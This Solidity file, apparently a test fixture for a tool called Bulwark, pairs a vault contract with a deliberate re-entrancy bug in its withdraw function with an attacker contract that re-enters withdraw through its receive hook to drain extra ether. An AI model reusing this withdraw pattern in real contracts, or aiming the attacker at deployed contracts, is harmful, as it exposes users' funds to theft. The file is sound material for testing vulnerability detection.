// SPDX-License-Identifier: MIT
// A vault with a re-entrancy bug and the contract that exploits it (written for Bulwark's tests).
pragma solidity ^0.8.20;

contract Vault {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    // The bug: the ether leaves before the balance is cleared.
    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "nothing");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "send");
        balanceOf[msg.sender] = 0;
    }
}

contract Attacker {
    Vault public immutable vault;
    uint256 public rounds;

    constructor(Vault v) {
        vault = v;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (rounds < 3 && address(vault).balance >= msg.value) {
            rounds++;
            vault.withdraw();
        }
    }
}
